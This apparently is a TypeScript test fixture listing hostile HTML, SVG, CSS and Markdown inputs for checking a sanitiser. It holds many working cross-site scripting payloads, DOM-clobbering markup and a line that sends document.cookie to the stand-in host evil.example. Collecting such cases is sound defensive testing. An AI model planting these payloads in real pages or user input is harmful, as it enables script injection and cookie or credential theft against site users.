/**
 * Our own hostile markup, by what it tries. `alert(1)` is the canary of scripts, `evil.example` that of
 * requests and navigations. More in main/importers/testing/hostile.ts and, where it is there, in the
 * corpus (.ci/corpus.ts).
 */

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '&#1;javascript:alert(1)',
  'java&#10;script:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/x',
];

/** Every attribute that has ever held an address. */
const PLACES: ((address: string) => string)[] = [
  (a) => `<a href="${a}" ping="${a}">x</a>`,
  (a) => `<a href="#x" xlink:href="${a}">x</a>`,
  (a) => `<area shape=default href="${a}"><map name=m><area href="${a}"></map>`,
  (a) => `<audio src="${a}" autoplay></audio><video src="${a}" poster="${a}" autoplay></video>`,
  (a) => `<video><source src="${a}"><track default src="${a}"></video>`,
  (a) => `<iframe src="${a}"></iframe><frameset><frame src="${a}"></frameset>`,
  (a) => `<object data="${a}" codebase="${a}"><param name=movie value="${a}"></object>`,
  (a) => `<embed src="${a}"><applet archive="${a}" code=x></applet>`,
  (a) =>
    `<form action="${a}"><input type=image src="${a}" formaction="${a}"><button>x</button></form>`,
  (a) => `<img src="${a}" srcset="${a} 2x" longdesc="${a}" dynsrc="${a}" usemap="${a}">`,
  (a) => `<picture><source srcset="${a}"><img src="${a}"></picture>`,
  (a) =>
    `<link rel=stylesheet href="${a}"><link rel=prefetch href="${a}"><link rel=icon href="${a}">`,
  (a) => `<body background="${a}"><table background="${a}"><tr><td background="${a}">x</table>`,
  (a) => `<script src="${a}"></script><script type=module src="${a}"></script>`,
  (a) =>
    `<svg><image href="${a}" xlink:href="${a}"/><use href="${a}"/><feImage href="${a}"/></svg>`,
  (a) => `<svg><script href="${a}"></script><a href="${a}"><text y=20>x</text></a></svg>`,
  (a) => `<math href="${a}"><mi xlink:href="${a}">x</mi></math>`,
  (a) => `<blockquote cite="${a}">x</blockquote><del cite="${a}">y</del><base href="${a}">`,
];

const OTHERS = [
  // Mutation: what the parser makes of it differs from what the serialiser writes.
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi></mi><mglyph><style><!--</style><img src onerror=alert(1)>--></style></mglyph></math>',
  '<form id="outer"><div></form><form id="inner"><input onfocus=alert(1) autofocus></form>',
  '<table><caption><svg><style></caption><img src=x onerror=alert(1)></style></svg></table>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src onerror=alert(1)>">x</noframes>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<svg><desc><template><s><template><img src onerror=alert(1)></template></s></template></desc></svg>',
  '<math><annotation-xml encoding="application/xhtml+xml"><img src onerror=alert(1)></annotation-xml></math>',
  '<p>a</p><!--!><img src=x onerror=alert(1)>--!><p>b</p>',
  '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x [<!ENTITY y "<img src onerror=alert(1)>">]>&y;',
  '<div><a title="`><img src onerror=alert(1)>">x</a></div>',
  '<b <script>alert(1)</script>0',
  '<a\u0000href="javascript:alert(1)">x</a><img\u0000 src=x onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)><img/src/onerror=alert(1)>',
  // Events that need nobody to do anything.
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">x</p>',
  '<p style="transition:color 1s" ontransitionend=alert(1)>x</p><marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
  '<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p>y</button>',
  '<dialog open onclose=alert(1) oncancel=alert(1)>x</dialog><details open ontoggle=alert(1)><summary>y</summary></details>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>y</text></a><set onbegin=alert(1)></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  '<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>',
  '<body onpageshow=alert(1) onhashchange=alert(1) onscroll=alert(1) onmessage=alert(1)>',
  '<img src=x onerror="fetch(String(`https://evil.example/`).concat(document.cookie))">',
  // Frames, documents in documents, going away.
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="<meta http-equiv=refresh content=0;url=https://evil.example/>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  '<link rel=import href="https://evil.example/"><link rel=dns-prefetch href="//evil.example">',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  // Hints that connect, fetch or register by themselves.
  '<link rel=preconnect href="https://evil.example/"><link rel=preconnect crossorigin href="//evil.example">',
  '<link rel=preload as=image href="https://evil.example/p"><link rel=modulepreload href="https://evil.example/m.js">',
  '<link rel=manifest href="https://evil.example/m"><link rel=compression-dictionary href="https://evil.example/d">',
  '<img src=x attributionsrc="https://evil.example/a"><a href="#x" attributionsrc="https://evil.example/b">x</a>',
  '<link rel=stylesheet href=x onload=alert(1) onerror=alert(1)><link rel=preload as=script href=x onerror=alert(1)>',
  '<script type=importmap>{"imports":{"x":"https://evil.example/i.js"}}</script><script type=module>import "x"</script>',
  // Style that tells or hides.
  '<style>p[title^=a]{background:url(https://evil.example/a)} @import url(https://evil.example/b);</style><p title=a>x</p>',
  '<p style="background:url(https://evil.example/);position:fixed;inset:0;z-index:99999">x</p>',
  '<style>@font-face{font-family:e;src:url(https://evil.example/f)}*{font-family:e}</style>',
  '<svg><style>*{fill:url(https://evil.example/#x)}</style><rect width=9 height=9 filter="url(https://evil.example/#f)"/></svg>',
  '<input type=password value=secret style="background-image:url(https://evil.example/)">',
  '<div style="width:expression(alert(1));-moz-binding:url(https://evil.example/x.xml#y);behavior:url(#x)">x</div>',
  // Forms.
  '<form action="https://evil.example/" method=post id=f><input name=q value=1></form><button form=f autofocus>x</button>',
  '<form action="https://evil.example/"><textarea name=t><button type=submit>steal',
  '<button formaction="javascript:alert(1)" form=f>x</button><isindex action="javascript:alert(1)">',
  // Names that stand in the way of the page's own.
  '<img name=querySelectorAll><form name=body><input name=attributes></form><a id=postil></a><a id=root></a>',
  '<form id=document name=location><input name=createElement><input name=cookie></form>',
  '<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href="https://evil.example/"></a>',
  '<img id=client name=invoke><object id=settings name=theme data=x></object>',
  // Custom elements, shadow trees, slots.
  '<template shadowrootmode=open><slot></slot><img src onerror=alert(1)></template>',
  '<x-y is=script>alert(1)</x-y><p is="x-z" onclick=alert(1)>x</p><slot name=a onslotchange=alert(1)></slot>',
  // In the form of Postil's own markup, and of Markdown.
  '<div data-postil-note="1" data-postil-missing="javascript:alert(1)" class="note toolbar">x</div>',
  '[x](javascript:alert(1)) ![y](https://evil.example/y) <https://evil.example/z>',
  '[x]: javascript:alert(1)\n[x] ![](data:image/svg+xml,<svg/onload=alert(1)>) [[javascript:alert(1)]]',
  '```html\n<script>alert(1)</script>\n```\n`<img src=x onerror=alert(1)>`\n<details open ontoggle=alert(1)>',
  '%%<img src=x onerror=alert(1)>%% {{ "<img src=x onerror=alert(1)>" }} {% raw %}<script>alert(1)</script>',
  '--><img src=x onerror=alert(1)>]]><img src=x onerror=alert(1)>"/><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)> \'><img src=x onerror=alert(1)> `><img src=x onerror=alert(1)>',
  '</title></style></textarea></script><img src=x onerror=alert(1)>',
  '\u202e<img src=x onerror=alert(1)>\u2066<script>alert(1)</script>',
  '＜img src=x onerror=alert(1)＞ ‹script›alert(1)‹/script›',
  // Depth.
  `${'<div>'.repeat(2000)}<img src=x onerror=alert(1)>`,
  `${'<svg><foreignObject>'.repeat(120)}<img src=x onerror=alert(1)>`,
  `${'<ul><li>'.repeat(800)}<script>alert(1)</script>`,
  `${'<form>'.repeat(50)}${'<math><mtext>'.repeat(120)}<img src=x onerror=alert(1)>`,
];

export const OWN_CASES: readonly string[] = [
  ...PLACES.flatMap((place) => SCHEMES.map(place)),
  ...OTHERS,
];
